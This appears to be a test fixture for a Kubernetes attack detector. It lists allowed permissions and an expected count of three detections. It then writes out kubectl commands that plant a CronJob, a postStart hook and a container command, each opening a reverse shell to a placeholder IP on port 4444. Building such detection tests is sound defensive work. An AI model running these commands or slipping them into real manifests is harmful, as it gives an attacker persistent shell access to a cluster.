# A CronJob is planted that calls home with a shell, and so are a Deployment's hook and its command.
#
# may: create cronjobs
# may: get,patch deployments
# detections: 3
# also: job-changed: it is a CronJob that is created

kubectl create cronjob cleanup --image=registry.k8s.io/pause:3.10 --schedule='*/5 * * * *' -- \
  bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'

admin create deployment shop --image=registry.k8s.io/pause:3.10
kubectl patch deployment shop --patch '
spec:
  template:
    spec:
      containers:
        - name: pause
          lifecycle: {postStart: {exec: {command: [sh, -c, "mkfifo /tmp/f; sh -i < /tmp/f | nc 203.0.113.66 4444 > /tmp/f"]}}}'
kubectl patch deployment shop --type=json --patch '[
  {"op": "add", "path": "/spec/template/spec/containers/0/command",
   "value": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"]}]'
